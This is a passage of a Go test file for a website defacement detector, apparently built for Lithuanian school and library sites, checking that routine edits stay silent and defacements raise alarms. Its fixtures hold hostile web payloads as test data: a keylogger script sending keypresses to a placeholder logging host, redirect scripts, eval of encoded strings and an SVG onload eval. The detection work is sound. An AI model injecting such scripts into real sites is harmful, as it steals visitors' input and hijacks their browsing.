		{"a heap of hidden words", atEnd(`<div style="position:absolute;top:-5000px">` + strings.Repeat("harga murah jual beli online terpercaya gratis ongkir promo diskon ", 8) + `</div>`)},
		{"Arabic", in(`<h1>تم الاختراق</h1><p>` + strings.Repeat("نحن هنا ولن نرحل أبدا والحرية للشعوب ", 5) + `</p>`)},
		{"Chinese titles", func(p string) string {
			return strings.Replace(p, "<title>", "<title>澳门赌场 娱乐城 百家乐 六合彩 ", 1)
		}},
		{"a body that a script writes", atEnd(`<script>document.body.innerHTML='<h1>Hacked by Nobody</h1>';</script>`)},
		{"away after a second", atEnd(`<script>setTimeout(function(){top.location='//landing.example/?r=1'},1000)</script>`)},
		{"away for those who come from a search", atEnd(`<script>if(document.referrer.indexOf('google')>-1){location.replace("https://pharma-shop.example/")}</script>`)},
		{"a keyboard that is listened to", atEnd(`<script>document.onkeypress=function(e){fetch('https://k.logger.example/?k='+e.key)}</script>`)},
		{"hex in a script", atEnd(`<script>var a="` + strings.Repeat(`\x68\x74`, 20) + `";eval(a)</script>`)},
		{"an SVG that runs", in(`<svg onload="eval(String.fromCharCode(97,108,101,114,116))"></svg>`)},
		{"an application for telephones", in(`<p>Nauja dienyno programėlė: <a href="https://apk-store.example/dienynas.apk">Atsisiųsti</a></p>`)},
		{"text of the attacker under the frame of the page", func(p string) string {
			return main2(p, `<h1>You have been pwned</h1><p>Fix your website, admin. We will be back.</p>`)
		}},
		{"other addresses behind all links", func(p string) string { return strings.ReplaceAll(p, `href="/`, `href="https://mirror-host.example/`) }},
	}
}

func snapshot(t testing.TB, page string) content.Snapshot {
	t.Helper()
	u, err := url.Parse("https://www.mokykla.example.lt/")
	if err != nil {
		t.Fatal(err)
	}
	return content.Read(u, u.Hostname(), "text/html; charset=utf-8", []byte(page))
}

func told(v content.Verdict) string {
	var b strings.Builder
	for _, f := range v.Findings {
		fmt.Fprintf(&b, "\n    %s %s %s %q", f.Args["points"], f.Code, f.Subject, f.Detail)
	}
	return fmt.Sprintf("%d points%s", v.Points, b.String())
}

// set is what pages are changed by. docs/content.md says how each was told when it
// was tried for the first time.
type set struct {
	pages              map[string]string
	edits, defacements []edit
}

func sets() map[string]set {
	return map[string]set{
		"first":            {pages(), edits(), defacements()},
		"second":           {pages(), laterEdits(), laterDefacements()},
		"third":            {thirdPages(), thirdEdits(), thirdDefacements()},
		"fourth":           {fourthPages(), fourthEdits(), fourthDefacements()},
		"fifth":            {map[string]string{"centre": centre}, fifthEdits(), fifthDefacements()},
		"sixth, a school":  {map[string]string{"school": sixthSchool}, sixthSchoolEdits(), sixthSchoolDefacements()},
		"sixth, a library": {map[string]string{"library": sixthLibrary}, sixthLibraryEdits(), sixthLibraryDefacements()},
		"the seventh":      {map[string]string{"library": sixthLibrary}, seventhEdits(), seventhDefacements()},
		"the ninth":        {map[string]string{"library": sixthLibrary}, ninthEdits(), ninthDefacements()},
		"near the sixth":   {map[string]string{"library": sixthLibrary}, sixthNearEdits(), sixthNearDefacements()},
	}
}

func TestEditsAreSilentAndDefacementsAreToldOnTheFirstLook(t *testing.T) {
	if testing.Short() {
		t.Skip("compares hundreds of pages, one after the other")
	}
	for name, set := range sets() {
		for page, text := range set.pages {
			before := snapshot(t, text)
			for _, e := range set.edits {
				if v := content.Compare([]content.Snapshot{before}, snapshot(t, e.make(text))); v.Alarming() {
					t.Errorf("%s set: edit: %s, %s: %s", name, page, e.name, told(v))
				}
			}
			for _, d := range set.defacements {
				if v := content.Compare([]content.Snapshot{before}, snapshot(t, d.make(text))); !v.Alarming() {
					t.Errorf("%s set: defacement: %s, %s: %s", name, page, d.name, told(v))
				}
			}
		}
	}
}

// What an ordinary edit takes away or adds is silent: nobody has to approve it.
func TestOneNewsItemMoreOrLessIsSilent(t *testing.T) {
	less := change(cut(`<div class="blog-item"><h3><a href="/index.php/naujienos/803`, `</div>`), ``)(sixthLibrary)
	without := change(cut(`<table class="events">`, `</table>`), ``)(less)
	for _, pair := range [][2]string{{sixthLibrary, less}, {less, sixthLibrary}, {sixthLibrary, without}, {without, sixthLibrary}} {
		if v := content.Compare([]content.Snapshot{snapshot(t, pair[0])}, snapshot(t, pair[1])); !v.Silent() {
			t.Errorf("%s", told(v))
		}
	}
}

// A good page is no alarm by itself, nor is it one against itself; what was approved
// stays approved.
func TestWhatWasApprovedIsSilent(t *testing.T) {
	for make, page := range pages() {
		s := snapshot(t, page)
		if v := content.Compare(nil, s); v.Alarming() || len(v.Findings) > 0 {
			t.Errorf("%s by itself: %s", make, told(v))
		}
		if v := content.Compare([]content.Snapshot{s}, s); v.Points != 0 {
			t.Errorf("%s against itself: %s", make, told(v))
		}
		for _, d := range defacements() {
			bad := snapshot(t, d.make(page))
			if v := content.Compare([]content.Snapshot{bad, s}, bad); v.Alarming() {
				t.Errorf("%s, %s, when it was approved: %s", make, d.name, told(v))
			}
			if v := content.Compare([]content.Snapshot{bad, s}, s); !v.Silent() {
				t.Errorf("%s, back from %s: %s", make, d.name, told(v))
			}
		}
	}
}
